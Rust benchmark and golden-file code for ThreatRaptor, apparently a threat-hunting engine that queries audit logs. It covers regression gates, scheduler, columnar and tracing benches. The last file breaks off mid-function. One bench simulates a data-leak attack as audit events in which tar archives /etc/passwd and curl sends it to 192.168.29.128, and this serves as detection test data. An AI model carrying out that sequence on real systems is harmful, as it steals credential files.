    // produces — and what recovery replays — is exact. Any drift means the
    // record framing, the commit protocol, or the checkpoint replay
    // changed; regenerate the baseline deliberately. Checkpoint size gets
    // the 2x envelope (encoding growth is fine, blow-up is not).
    for key in ["wal_records", "wal_epochs", "scaled_recovered_rows"] {
        let (c, b) = (extract_numbers(current, key), extract_numbers(baseline, key));
        if !b.is_empty() && c != b {
            failures.push(format!("durability {key} changed: baseline {b:?}, current {c:?}"));
        }
    }
    if let (Some(c), Some(b)) = (
        extract_numbers(current, "scaled_checkpoint_bytes").last(),
        extract_numbers(baseline, "scaled_checkpoint_bytes").last(),
    ) {
        if *c > b.max(1.0) * MAX_REGRESSION {
            failures.push(format!(
                "durability checkpoint size regressed >{MAX_REGRESSION}x \
                 (baseline {b}, current {c})"
            ));
        }
    }
    let differ = |json: &str| extract_numbers(json, "orders_differ").last().copied().unwrap_or(0.0);
    if differ(current) < 1.0 && differ(baseline) >= 1.0 {
        failures.push(
            "cost-based scheduler no longer diverges from the syntactic order on any \
             corpus query (stats plane dead?)"
                .to_string(),
        );
    }
    failures
}

fn main() -> ExitCode {
    let mut out_path = "target/BENCH_schedule.json".to_string();
    let mut baseline_path = format!("{}/baselines/BENCH_schedule.json", env!("CARGO_MANIFEST_DIR"));
    let mut write_baseline = false;
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        match a.as_str() {
            "--out" => out_path = args.next().expect("--out needs a path"),
            "--baseline" => baseline_path = args.next().expect("--baseline needs a path"),
            "--write-baseline" => write_baseline = true,
            other => {
                eprintln!("unknown argument: {other}");
                return ExitCode::FAILURE;
            }
        }
    }

    let (reports, q_error_max) = run();
    let (paths, path_q_error_max) = run_path_estimation();
    let parallel = run_parallel();
    let columnar = run_columnar();
    let obs = run_observability();
    let durability = run_durability();
    let json = render_json(
        &reports,
        &parallel,
        &columnar,
        &obs,
        &durability,
        &paths,
        path_q_error_max,
        q_error_max,
    );
    if let Some(parent) =
        std::path::Path::new(&out_path).parent().filter(|p| !p.as_os_str().is_empty())
    {
        std::fs::create_dir_all(parent).expect("create output dir");
    }
    std::fs::write(&out_path, &json).expect("write bench output");
    println!("wrote {out_path}");
    for r in &reports {
        println!(
            "q{}: rows={} work cost/syn={}/{} latency cost/syn={:.1}µs/{:.1}µs order {}",
            r.id,
            r.rows,
            r.work_cost,
            r.work_syntactic,
            r.latency_ns_cost as f64 / 1e3,
            r.latency_ns_syntactic as f64 / 1e3,
            if r.order_cost == r.order_syntactic { "same" } else { "DIFFERS" },
        );
    }
    println!(
        "columnar @{}r: giant q3 rows={} segs scanned/pruned={}/{}; \
         endtime probe rows={} segs scanned/pruned={}/{}",
        PROBE_SEGMENT_ROWS,
        columnar.giant_rows,
        columnar.giant_segments_scanned,
        columnar.giant_segments_pruned,
        columnar.probe_rows,
        columnar.probe_segments_scanned,
        columnar.probe_segments_pruned,
    );
    println!(
        "observability: spans/query={:?}; q3 trace off/on={:.1}µs/{:.1}µs; \
         frontier spans={} hits={} misses={}",
        obs.spans_per_query,
        obs.q3_latency_ns_trace_off as f64 / 1e3,
        obs.q3_latency_ns_trace_on as f64 / 1e3,
        obs.frontier_spans,
        obs.frontier_hits,
        obs.frontier_misses,
    );
    for p in &paths {
        println!(
            "path q{}: rows={} est={:.1} q_err={:.2}",
            p.id, p.rows, p.estimated_rows, p.q_error
        );
    }
    println!("path_estimation: q_error_max={path_q_error_max:.2} (cap {PATH_QERROR_CAP})");
    println!(
        "durability: {} events, ingest wal-off/on={:.1}ms/{:.1}ms, wal records/epochs={}/{}; \
         15x ckpt={}B rows={} recovery={:.1}ms",
        durability.events,
        durability.ingest_ns_volatile as f64 / 1e6,
        durability.ingest_ns_durable as f64 / 1e6,
        durability.wal_records,
        durability.wal_epochs,
        durability.scaled_checkpoint_bytes,
        durability.scaled_recovered_rows,
        durability.scaled_recovery_ns as f64 / 1e6,
    );
    for p in &parallel {
        println!(
            "q{} parallel: t1={:.1}µs t2={:.1}µs t4={:.1}µs (speedup x{:.2} at 4)",
            p.id,
            p.latency_ns[0] as f64 / 1e3,
            p.latency_ns[1] as f64 / 1e3,
            p.latency_ns[2] as f64 / 1e3,
            p.latency_ns[0] as f64 / p.latency_ns[2].max(1) as f64,
        );
    }

    if write_baseline {
        std::fs::create_dir_all(
            std::path::Path::new(&baseline_path).parent().expect("baseline has a parent"),
        )
        .expect("create baseline dir");
        std::fs::write(&baseline_path, &json).expect("write baseline");
        println!("baseline written to {baseline_path}");
        return ExitCode::SUCCESS;
    }

    let baseline = match std::fs::read_to_string(&baseline_path) {
        Ok(b) => b,
        Err(e) => {
            eprintln!("cannot read baseline {baseline_path}: {e} (run with --write-baseline)");
            return ExitCode::FAILURE;
        }
    };
    let failures = gate(&json, &baseline);
    if failures.is_empty() {
        println!("bench-smoke gate: PASS (vs {baseline_path})");
        ExitCode::SUCCESS
    } else {
        for f in &failures {
            eprintln!("bench-smoke gate: FAIL: {f}");
        }
        ExitCode::FAILURE
    }
}
