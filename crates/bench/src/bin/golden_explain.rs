//! Regenerates `tests/golden/corpus_explain.txt` — the pinned EXPLAIN and
//! stable-redacted EXPLAIN ANALYZE trees of the 8-query equivalence corpus.
//!
//! The golden file pins the *plan*: scheduler choice, execution order, seed
//! candidate counts, per-pattern cost estimates, and (under
//! `Redact::Stable`) the actual rows / Q-error / access path per pattern.
//! Volatile fields — wall times and scan granularity counters that vary with
//! `RAPTOR_SEGMENT_ROWS` — are redacted to `~`, so the
//! `golden_corpus_explain` test in `tests/explain_golden.rs` can assert the
//! rendering is byte-identical across thread counts and segment capacities.
//!
//! Run from the repo root: `cargo run --release -p raptor-bench --bin golden_explain`

use raptor_bench::corpus::{corpus_system, EQUIV_CORPUS};
use raptor_engine::Redact;
use std::fmt::Write as _;

fn main() {
    let raptor = corpus_system();
    let mut out = String::new();
    let _ = writeln!(
        out,
        "# Golden EXPLAIN / EXPLAIN ANALYZE (Redact::Stable) trees for the\n\
         # equivalence corpus. Regenerate with:\n\
         #   cargo run --release -p raptor-bench --bin golden_explain\n\
         # Byte-identical across RAPTOR_THREADS and RAPTOR_SEGMENT_ROWS."
    );
    for (i, q) in EQUIV_CORPUS.iter().enumerate() {
        let _ = writeln!(out, "query {i}: {q}");
        let plan = raptor.explain(q).unwrap();
        out.push_str(&plan);
        let (_, report) = raptor.explain_analyze(q, Redact::Stable).unwrap();
        out.push_str(&report);
    }
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/golden/corpus_explain.txt");
    std::fs::create_dir_all(std::path::Path::new(path).parent().unwrap()).unwrap();
    std::fs::write(path, &out).unwrap();
    println!("wrote {path} ({} bytes)", out.len());
}
