//! Regenerates every table of the ThreatRaptor evaluation.
//!
//! ```text
//! cargo run --release -p raptor-bench --bin tables                  # all tables
//! cargo run --release -p raptor-bench --bin tables -- table5 table6 # a subset
//! cargo run --release -p raptor-bench --bin tables -- --scale 0.2 --rounds 5
//! ```

use raptor_bench::tables::*;

fn main() {
    let mut cfg = HarnessConfig { noise_scale: 1.0, rounds: 20, fuzzy_budget_secs: 60.0, seed: 42 };
    let mut wanted: Vec<String> = Vec::new();
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        match a.as_str() {
            "--scale" => cfg.noise_scale = args.next().and_then(|v| v.parse().ok()).unwrap_or(1.0),
            "--rounds" => cfg.rounds = args.next().and_then(|v| v.parse().ok()).unwrap_or(20),
            "--budget" => {
                cfg.fuzzy_budget_secs = args.next().and_then(|v| v.parse().ok()).unwrap_or(60.0)
            }
            "--seed" => cfg.seed = args.next().and_then(|v| v.parse().ok()).unwrap_or(42),
            other => wanted.push(other.to_string()),
        }
    }
    let want = |name: &str| wanted.is_empty() || wanted.iter().any(|w| w == name);

    eprintln!(
        "# harness config: scale={} rounds={} fuzzy_budget={}s seed={}",
        cfg.noise_scale, cfg.rounds, cfg.fuzzy_budget_secs, cfg.seed
    );

    if want("table1") {
        println!("{}", table1());
    }
    if want("table2") {
        println!("{}", table2());
    }
    if want("table3") {
        println!("{}", table3());
    }
    if want("table4") {
        println!("{}", table4());
    }
    if want("table5") {
        println!("{}", table5());
    }
    let needs_evals = ["table6", "table7", "table8", "table9", "table10"].iter().any(|t| want(t));
    if needs_evals {
        eprintln!("# building 18 scenarios (scale {}) ...", cfg.noise_scale);
        let evals = run_all(&cfg);
        if want("table6") {
            println!("{}", table6(&evals));
        }
        if want("table7") {
            println!("{}", table7(&evals));
        }
        if want("table8") {
            println!("{}", table8(&evals, &cfg));
        }
        if want("table9") {
            println!("{}", table9(&evals, &cfg));
        }
        if want("table10") {
            println!("{}", table10(&evals));
        }
    }
}
