//! Regenerates `tests/golden/corpus_rows.txt` — the pinned rendering of the
//! 8-query equivalence corpus.
//!
//! The golden file pins the *rendered* output (columns + sorted rows) of
//! `ExecMode::Scheduled` on the corpus store. The `golden_corpus_rows` test
//! in `tests/backend_equivalence.rs` asserts every execution mode, backend,
//! store-growth path and thread count still renders byte-identically to this
//! file, so value-plane refactors (e.g. the interned-symbol re-keying)
//! cannot silently change what users see.
//!
//! Run from the repo root: `cargo run --release -p raptor-bench --bin golden_rows`

use raptor_bench::corpus::{corpus_system, EQUIV_CORPUS};
use raptor_engine::ExecMode;
use std::fmt::Write as _;

fn main() {
    let raptor = corpus_system();
    let mut out = String::new();
    let _ = writeln!(
        out,
        "# Golden rendered rows for the equivalence corpus (sorted_rows of\n\
         # ExecMode::Scheduled). Regenerate with:\n\
         #   cargo run --release -p raptor-bench --bin golden_rows\n\
         # Format: `query <i>` / `columns <tab-joined>` / one `row <tab-joined>` per row."
    );
    for (i, q) in EQUIV_CORPUS.iter().enumerate() {
        let (table, _) = raptor.query_with_mode(q, ExecMode::Scheduled).unwrap();
        let _ = writeln!(out, "query {i}");
        let _ = writeln!(out, "columns {}", table.columns.join("\t"));
        for row in table.sorted_rows() {
            let _ = writeln!(out, "row {}", row.join("\t"));
        }
    }
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/golden/corpus_rows.txt");
    std::fs::create_dir_all(std::path::Path::new(path).parent().unwrap()).unwrap();
    std::fs::write(path, &out).unwrap();
    println!("wrote {path} ({} bytes)", out.len());
}
