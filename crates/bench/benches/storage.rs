//! Criterion benches for the storage substrates: relational point/LIKE/join
//! queries (index ablations) and graph var-length path search, plus the
//! audit parser and data-reduction pass.

use criterion::{criterion_group, criterion_main, Criterion};
use raptor_audit::reduce::{merge_events, DEFAULT_THRESHOLD};
use raptor_audit::sim::{generate_background, BackgroundProfile, Simulator};
use raptor_audit::LogParser;
use raptor_common::time::Timestamp;
use raptor_engine::load::load;

fn workload() -> Vec<raptor_audit::SyscallRecord> {
    let mut sim = Simulator::new(3, Timestamp::from_secs(0));
    generate_background(
        &mut sim,
        &BackgroundProfile { users: 15, sessions: 600, ..Default::default() },
    );
    sim.finish()
}

fn bench_audit(c: &mut Criterion) {
    let records = workload();
    let mut g = c.benchmark_group("audit");
    g.sample_size(10);
    g.bench_function("parse", |b| b.iter(|| LogParser::parse(std::hint::black_box(&records))));
    let parsed = LogParser::parse(&records);
    g.bench_function("reduce", |b| {
        b.iter(|| {
            let mut events = parsed.events.clone();
            merge_events(&mut events, DEFAULT_THRESHOLD)
        })
    });
    let encoded = raptor_audit::codec::encode_batch(&records);
    g.bench_function("codec_decode", |b| {
        b.iter(|| raptor_audit::codec::decode_batch(std::hint::black_box(encoded.clone())).unwrap())
    });
    g.finish();
}

fn bench_stores(c: &mut Criterion) {
    let records = workload();
    let mut log = LogParser::parse(&records);
    merge_events(&mut log.events, DEFAULT_THRESHOLD);
    let stores = load(&log).unwrap();
    let mut g = c.benchmark_group("stores");
    g.sample_size(20);
    g.bench_function("load_both", |b| b.iter(|| load(std::hint::black_box(&log)).unwrap()));
    g.bench_function("sql_like_trigram", |b| {
        b.iter(|| {
            stores
                .rel
                .query("SELECT id FROM processes WHERE exename LIKE '%/usr/bin/gcc%'")
                .unwrap()
        })
    });
    g.bench_function("sql_point_lookup", |b| {
        b.iter(|| stores.rel.query("SELECT id FROM events WHERE optype = 'connect'").unwrap())
    });
    g.bench_function("sql_three_way_join", |b| {
        b.iter(|| {
            stores
                .rel
                .query(
                    "SELECT p.exename, f.name FROM processes p, events e, files f \
                     WHERE e.subject = p.id AND e.object = f.id AND e.optype = 'read' \
                     AND p.exename LIKE '%/usr/bin/gcc%'",
                )
                .unwrap()
        })
    });
    let cy = raptor_graphstore::cypher::parse_cypher(
        "MATCH (p:Process)-[:EVENT*1..2]->(f:File) \
         WHERE p.exename CONTAINS '/usr/bin/gcc' RETURN DISTINCT f.name",
    )
    .unwrap();
    g.bench_function("cypher_var_length", |b| {
        b.iter(|| raptor_graphstore::cypher::exec::execute(&stores.graph, &cy, 8).unwrap())
    });
    g.finish();
}

criterion_group!(benches, bench_audit, bench_stores);
criterion_main!(benches);
