//! `parallel_vs_sequential` — wall-clock effect of the parallel execution
//! plane at 1/2/4 worker threads.
//!
//! The corpus store used by `bench_smoke` is deliberately small (fast CI);
//! thread-spawn overhead would drown any parallel win there. This bench
//! replays the same data-leak attack over a much larger deterministic
//! background so the hot paths actually have work to partition, then runs
//! corpus query 3 (the scheduler showcase) in three shapes:
//!
//! * **scan-bound** — `GiantSql`: the `read || write` OR-predicate defeats
//!   every index, so the events table is full-scanned and re-verified
//!   (partitioned over row chunks) and the multi-way hash joins probe tens
//!   of thousands of tuples (partitioned over tuple ranges),
//! * **path-bound** — `GiantCypher`: every `Process` node anchors a graph
//!   traversal (fanned out per anchor through the pool),
//! * **scheduled** — the typed scheduled plan, as a reference point: the
//!   cost-based scheduler prunes so hard that there is little left to
//!   parallelize, and the bench shows the plane does not slow it down.
//!
//! Speedup only materializes with real hardware parallelism; on a 1-core
//! machine all thread counts collapse to roughly the sequential time.

use criterion::{criterion_group, criterion_main, Criterion};
use raptor_audit::sim::{generate_background, BackgroundProfile, Simulator};
use raptor_bench::corpus::EQUIV_CORPUS;
use raptor_common::time::Timestamp;
use raptor_engine::exec::ExecMode;
use raptor_tbql::{analyze, parse_tbql};
use threatraptor::ThreatRaptor;

/// The corpus scenario at ~15x background scale (tens of thousands of
/// events): big enough that scans, probes and traversals dominate.
fn scaled_system() -> ThreatRaptor {
    let mut sim = Simulator::new(77, Timestamp::from_secs(1_500_000_000));
    generate_background(
        &mut sim,
        &BackgroundProfile { users: 8, sessions: 1200, ..Default::default() },
    );
    let shell = sim.boot_process("/bin/bash", "root");
    let tar = sim.spawn(shell, "/bin/tar", "tar");
    sim.read_file(tar, "/etc/passwd", 4096, 4);
    sim.write_file(tar, "/tmp/upload.tar", 4096, 4);
    sim.exit(tar);
    let curl = sim.spawn(shell, "/usr/bin/curl", "curl");
    sim.read_file(curl, "/tmp/upload.tar", 4096, 2);
    let fd = sim.connect(curl, "192.168.29.128", 443);
    sim.send(curl, fd, 4096, 4);
    sim.exit(curl);
    ThreatRaptor::from_records(&sim.finish()).unwrap()
}

fn bench_parallel_vs_sequential(c: &mut Criterion) {
    let mut raptor = scaled_system();
    let aq = analyze(&parse_tbql(EQUIV_CORPUS[3]).unwrap()).unwrap();
    let mut g = c.benchmark_group("parallel_vs_sequential");
    g.sample_size(10);
    for threads in [1usize, 2, 4] {
        raptor.set_threads(threads);
        let engine = raptor.engine();
        g.bench_function(&format!("scan_bound_q3_giant_sql_t{threads}"), |b| {
            b.iter(|| engine.execute(&aq, ExecMode::GiantSql).unwrap())
        });
        g.bench_function(&format!("path_bound_q3_giant_cypher_t{threads}"), |b| {
            b.iter(|| engine.execute(&aq, ExecMode::GiantCypher).unwrap())
        });
        g.bench_function(&format!("scheduled_q3_t{threads}"), |b| {
            b.iter(|| engine.execute(&aq, ExecMode::Scheduled).unwrap())
        });
    }
    g.finish();
}

criterion_group!(benches, bench_parallel_vs_sequential);
criterion_main!(benches);
