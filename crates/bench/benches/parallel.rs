//! `parallel_vs_sequential` — wall-clock effect of the parallel execution
//! plane at 1/2/4 worker threads.
//!
//! The corpus store used by `bench_smoke` is deliberately small (fast CI);
//! thread-spawn overhead would drown any parallel win there. This bench
//! replays the same data-leak attack over a much larger deterministic
//! background so the hot paths actually have work to partition, then runs
//! corpus query 3 (the scheduler showcase) in three shapes:
//!
//! * **scan-bound** — `GiantSql`: the `read || write` OR-predicate defeats
//!   every index, so the events table is full-scanned and re-verified
//!   (partitioned over row chunks) and the multi-way hash joins probe tens
//!   of thousands of tuples (partitioned over tuple ranges),
//! * **path-bound** — `GiantCypher`: every `Process` node anchors a graph
//!   traversal (fanned out per anchor through the pool),
//! * **scheduled** — the typed scheduled plan, as a reference point: the
//!   cost-based scheduler prunes so hard that there is little left to
//!   parallelize, and the bench shows the plane does not slow it down.
//!
//! Speedup only materializes with real hardware parallelism; on a 1-core
//! machine all thread counts collapse to roughly the sequential time.

use criterion::{criterion_group, criterion_main, Criterion};
use raptor_bench::corpus::{scaled_corpus_system, EQUIV_CORPUS};
use raptor_engine::exec::ExecMode;
use raptor_tbql::{analyze, parse_tbql};

fn bench_parallel_vs_sequential(c: &mut Criterion) {
    let mut raptor = scaled_corpus_system();
    let aq = analyze(&parse_tbql(EQUIV_CORPUS[3]).unwrap()).unwrap();
    let mut g = c.benchmark_group("parallel_vs_sequential");
    g.sample_size(10);
    for threads in [1usize, 2, 4] {
        raptor.set_threads(threads);
        let engine = raptor.engine();
        g.bench_function(&format!("scan_bound_q3_giant_sql_t{threads}"), |b| {
            b.iter(|| engine.execute(&aq, ExecMode::GiantSql).unwrap())
        });
        g.bench_function(&format!("path_bound_q3_giant_cypher_t{threads}"), |b| {
            b.iter(|| engine.execute(&aq, ExecMode::GiantCypher).unwrap())
        });
        g.bench_function(&format!("scheduled_q3_t{threads}"), |b| {
            b.iter(|| engine.execute(&aq, ExecMode::Scheduled).unwrap())
        });
    }
    g.finish();
}

criterion_group!(benches, bench_parallel_vs_sequential);
criterion_main!(benches);
