//! Criterion benches for threat behavior extraction (Table V / VII shapes):
//! the full pipeline, the no-protection ablation, and both Open IE baselines
//! on the data_leak report.

use criterion::{criterion_group, criterion_main, Criterion};
use raptor_extract::openie::run_baseline;
use raptor_extract::pipeline::{extract, extract_with_options};

fn report() -> &'static str {
    raptor_cases::catalog::case_by_id("data_leak").unwrap().report
}

fn bench_extraction(c: &mut Criterion) {
    let text = report();
    let mut g = c.benchmark_group("extraction");
    g.bench_function("threatraptor", |b| b.iter(|| extract(std::hint::black_box(text))));
    g.bench_function("threatraptor_no_protection", |b| {
        b.iter(|| extract_with_options(std::hint::black_box(text), false))
    });
    g.bench_function("openie_stanford_style", |b| {
        b.iter(|| run_baseline(std::hint::black_box(text), false, false))
    });
    g.bench_function("openie5_style_exhaustive", |b| {
        b.iter(|| run_baseline(std::hint::black_box(text), false, true))
    });
    g.finish();
}

fn bench_stages(c: &mut Criterion) {
    let text = report();
    let mut g = c.benchmark_group("extraction_stages");
    g.bench_function("ioc_scan", |b| {
        b.iter(|| raptor_extract::scan_iocs(std::hint::black_box(text)))
    });
    let iocs = raptor_extract::scan_iocs(text);
    g.bench_function("protect", |b| {
        b.iter(|| raptor_extract::protect::protect(std::hint::black_box(text), &iocs))
    });
    let out = extract(text);
    g.bench_function("synthesize", |b| {
        b.iter(|| {
            threatraptor::synthesize(
                std::hint::black_box(&out.graph),
                &threatraptor::SynthesisPlan::default(),
            )
            .unwrap()
        })
    });
    g.finish();
}

criterion_group!(benches, bench_extraction, bench_stages);
criterion_main!(benches);
