//! Criterion benches for TBQL query execution (Table VIII shape): the
//! scheduled plan vs the giant-SQL and giant-Cypher baselines on the
//! data_leak scenario, plus the 1-pattern case where TBQL's compile
//! overhead makes it *slower* (the paper's tc_clearscope_3 observation),
//! plus the typed `StorageBackend` scheduled path vs the seed's string-SQL
//! pipeline (`execute_scheduled_via_text`).

use criterion::{criterion_group, criterion_main, Criterion};
use raptor_bench::caseval::{evaluate_case, query_variants};
use raptor_bench::corpus::{corpus_system, scaled_corpus_system, EQUIV_CORPUS};
use raptor_engine::exec::ExecMode;
use raptor_engine::SchedulerMode;
use raptor_tbql::{analyze, parse_tbql};

fn bench_variants(c: &mut Criterion) {
    let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
    let eval = evaluate_case(spec, 1.0, 42);
    let v = query_variants(&eval);
    let mut g = c.benchmark_group("query_exec_data_leak");
    g.sample_size(20);
    g.bench_function("tbql_scheduled", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql, ExecMode::Scheduled).unwrap())
    });
    g.bench_function("giant_sql", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql, ExecMode::GiantSql).unwrap())
    });
    g.bench_function("tbql_path_scheduled", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql_path, ExecMode::Scheduled).unwrap())
    });
    g.bench_function("giant_cypher", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql_path, ExecMode::GiantCypher).unwrap())
    });
    g.finish();
}

fn bench_single_pattern(c: &mut Criterion) {
    let spec = raptor_cases::catalog::case_by_id("tc_clearscope_3").unwrap();
    let eval = evaluate_case(spec, 1.0, 42);
    let v = query_variants(&eval);
    let mut g = c.benchmark_group("query_exec_single_pattern");
    g.sample_size(20);
    g.bench_function("tbql_scheduled", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql, ExecMode::Scheduled).unwrap())
    });
    g.bench_function("giant_sql", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql, ExecMode::GiantSql).unwrap())
    });
    g.finish();
}

/// The tentpole comparison: the same scheduled plan through typed
/// `StorageBackend` requests vs through rendered-and-reparsed SQL/Cypher
/// text, on the largest sim workload the catalog has for this query shape.
fn bench_typed_vs_text(c: &mut Criterion) {
    let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
    let eval = evaluate_case(spec, 1.0, 42);
    let v = query_variants(&eval);
    let engine = eval.raptor.engine();
    let aq = analyze(&parse_tbql(&v.tbql).unwrap()).unwrap();
    let aq_path = analyze(&parse_tbql(&v.tbql_path).unwrap()).unwrap();
    let mut g = c.benchmark_group("scheduled_typed_vs_text");
    g.sample_size(20);
    g.bench_function("event_patterns_typed", |b| {
        b.iter(|| engine.execute(&aq, ExecMode::Scheduled).unwrap())
    });
    g.bench_function("event_patterns_text", |b| {
        b.iter(|| engine.execute_scheduled_via_text(&aq).unwrap())
    });
    g.bench_function("path_patterns_typed", |b| {
        b.iter(|| engine.execute(&aq_path, ExecMode::Scheduled).unwrap())
    });
    g.bench_function("path_patterns_text", |b| {
        b.iter(|| engine.execute_scheduled_via_text(&aq_path).unwrap())
    });
    g.finish();
}

/// Cost-based vs syntactic scheduling on the equivalence corpus. Query 3 is
/// the showcase: the two patterns tie syntactically, but the cost-based
/// scheduler runs the IOC'd `connect` pattern first and prunes the weakly
/// constrained `read || write` through the propagated `IN` sets — a
/// *different and measurably faster* order (~2x on the corpus store, and
/// ~3x less backend work; `bench_smoke` gates the deterministic counters).
fn bench_scheduler_modes(c: &mut Criterion) {
    let raptor = corpus_system();
    let engine = raptor.engine();
    let mut g = c.benchmark_group("scheduler_cost_vs_syntactic");
    g.sample_size(20);
    for (id, q) in EQUIV_CORPUS.iter().enumerate() {
        let aq = analyze(&parse_tbql(q).unwrap()).unwrap();
        g.bench_function(&format!("q{id}_cost"), |b| {
            b.iter(|| engine.execute_scheduled_as(&aq, SchedulerMode::CostBased).unwrap())
        });
        g.bench_function(&format!("q{id}_syntactic"), |b| {
            b.iter(|| engine.execute_scheduled_as(&aq, SchedulerMode::Syntactic).unwrap())
        });
    }
    g.finish();
}

/// The shared-dictionary-plane comparison: end-to-end execution with the
/// interned value plane (symbols end-to-end, strings rendered exactly once
/// at the edge) vs an emulation of the pre-refactor owned-string plane —
/// every cell crossing the `StorageBackend` seam materialized to a heap
/// `String` and DISTINCT deduplication hashing over string rows, which is
/// precisely the per-row work the re-keying removed. Both arms run the
/// identical backend execution, so the delta isolates the value-plane cost.
/// Measured on scan-bound queries over the corpus store (weakly constrained
/// patterns ⇒ thousands of result rows) plus the corpus showcase query.
fn bench_interned_vs_owned(c: &mut Criterion) {
    let raptor = corpus_system();
    let engine = raptor.engine();
    let scan_bound: Vec<(&str, String)> = vec![
        ("wide_read", "proc p read file f as e1 return p, f".to_string()),
        ("wide_distinct", "proc p read file f as e1 return distinct p, f".to_string()),
        ("corpus_q3", EQUIV_CORPUS[3].to_string()),
    ];
    let mut g = c.benchmark_group("interned_vs_owned");
    g.sample_size(20);
    for (name, q) in &scan_bound {
        let aq = analyze(&parse_tbql(q).unwrap()).unwrap();
        g.bench_function(&format!("{name}_interned"), |b| {
            b.iter(|| {
                let (batch, mut stats) = engine.execute_batch(&aq, ExecMode::Scheduled).unwrap();
                raptor_engine::ResultTable::from_batch_counted(&batch, &mut stats)
            })
        });
        g.bench_function(&format!("{name}_owned"), |b| {
            b.iter(|| {
                let (batch, _) = engine.execute_batch(&aq, ExecMode::Scheduled).unwrap();
                // Owned-plane emulation: materialize every cell (what
                // `OwnedValue`/`GVal::Str(String)` did at the seam), then
                // dedup by hashing heap-string rows (what DISTINCT and the
                // stream multiset-diff did before the re-keying).
                let rows: Vec<Vec<String>> = (0..batch.n_rows())
                    .map(|i| batch.row(i).iter().map(|v| v.render(&batch.dict)).collect())
                    .collect();
                let mut seen: raptor_common::FxHashSet<Vec<String>> = Default::default();
                let mut out = Vec::with_capacity(rows.len());
                for r in rows {
                    if seen.insert(r.clone()) {
                        out.push(r);
                    }
                }
                out
            })
        });
    }
    g.finish();
}

/// The columnar-storage-plane comparison: segmented + vectorized scans vs
/// a row-at-a-time emulation at the same seam. Both arms run the identical
/// executor; the emulation arm repartitions the store to **one row per
/// segment**, which degenerates every predicate kernel to a per-row
/// dispatch (per-segment setup, zone-map check and selection-vector append
/// for every single row) — precisely the per-row overhead the vectorized
/// plane amortizes over 4096-row segments. Workloads are the scan-bound
/// shapes: corpus q3 (its `read || write` OR-predicate defeats every
/// index) plus the weakly constrained `wide_read`/`wide_distinct`, all
/// through `GiantSql` so execution is full-scan + hash-join rather than
/// index-served, at the CI corpus scale (1x) and ~15x.
fn bench_columnar_scan(c: &mut Criterion) {
    let workloads: Vec<(&str, String)> = vec![
        ("q3", EQUIV_CORPUS[3].to_string()),
        ("wide_read", "proc p read file f as e1 return p, f".to_string()),
        ("wide_distinct", "proc p read file f as e1 return distinct p, f".to_string()),
    ];
    let mut g = c.benchmark_group("columnar_scan");
    g.sample_size(10);
    for (scale, mut raptor) in [("1x", corpus_system()), ("15x", scaled_corpus_system())] {
        for (name, q) in &workloads {
            let aq = analyze(&parse_tbql(q).unwrap()).unwrap();
            raptor.set_segment_rows(4096);
            g.bench_function(&format!("{name}_{scale}_vectorized"), |b| {
                b.iter(|| raptor.engine().execute(&aq, ExecMode::GiantSql).unwrap())
            });
            raptor.set_segment_rows(1);
            g.bench_function(&format!("{name}_{scale}_row_at_a_time"), |b| {
                b.iter(|| raptor.engine().execute(&aq, ExecMode::GiantSql).unwrap())
            });
            raptor.set_segment_rows(4096);
        }
    }
    g.finish();
}

/// The observability-plane overhead contract: tracing disabled must cost
/// nothing measurable (<1% — each span site is a single relaxed atomic
/// load), and tracing enabled must stay cheap (lock-free ring writes, no
/// allocation, no formatting). Measured on corpus q3 — the `columnar_scan`
/// showcase query — through both the scheduled plan and the full-scan
/// `GiantSql` baseline, at CI corpus scale (1x) and ~15x so per-span cost
/// is exercised against both short and scan-dominated executions.
fn bench_trace_overhead(c: &mut Criterion) {
    let trace = raptor_common::obs::trace();
    let aq = analyze(&parse_tbql(EQUIV_CORPUS[3]).unwrap()).unwrap();
    let mut g = c.benchmark_group("trace_overhead");
    g.sample_size(20);
    for (scale, raptor) in [("1x", corpus_system()), ("15x", scaled_corpus_system())] {
        for (mode_name, mode) in
            [("scheduled", ExecMode::Scheduled), ("giant_sql", ExecMode::GiantSql)]
        {
            trace.set_enabled(false);
            g.bench_function(&format!("q3_{mode_name}_{scale}_trace_off"), |b| {
                b.iter(|| raptor.engine().execute(&aq, mode).unwrap())
            });
            trace.set_enabled(true);
            g.bench_function(&format!("q3_{mode_name}_{scale}_trace_on"), |b| {
                b.iter(|| raptor.engine().execute(&aq, mode).unwrap())
            });
            trace.set_enabled(false);
            trace.clear();
        }
    }
    g.finish();
}

criterion_group!(
    benches,
    bench_variants,
    bench_single_pattern,
    bench_typed_vs_text,
    bench_scheduler_modes,
    bench_interned_vs_owned,
    bench_columnar_scan,
    bench_trace_overhead
);
criterion_main!(benches);
