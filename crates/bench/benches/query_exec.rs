//! Criterion benches for TBQL query execution (Table VIII shape): the
//! scheduled plan vs the giant-SQL and giant-Cypher baselines on the
//! data_leak scenario, plus the 1-pattern case where TBQL's compile
//! overhead makes it *slower* (the paper's tc_clearscope_3 observation).

use criterion::{criterion_group, criterion_main, Criterion};
use raptor_bench::caseval::{evaluate_case, query_variants};
use raptor_engine::exec::ExecMode;

fn bench_variants(c: &mut Criterion) {
    let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
    let eval = evaluate_case(spec, 1.0, 42);
    let v = query_variants(&eval);
    let mut g = c.benchmark_group("query_exec_data_leak");
    g.sample_size(20);
    g.bench_function("tbql_scheduled", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql, ExecMode::Scheduled).unwrap())
    });
    g.bench_function("giant_sql", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql, ExecMode::GiantSql).unwrap())
    });
    g.bench_function("tbql_path_scheduled", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql_path, ExecMode::Scheduled).unwrap())
    });
    g.bench_function("giant_cypher", |b| {
        b.iter(|| eval.raptor.query_with_mode(&v.tbql_path, ExecMode::GiantCypher).unwrap())
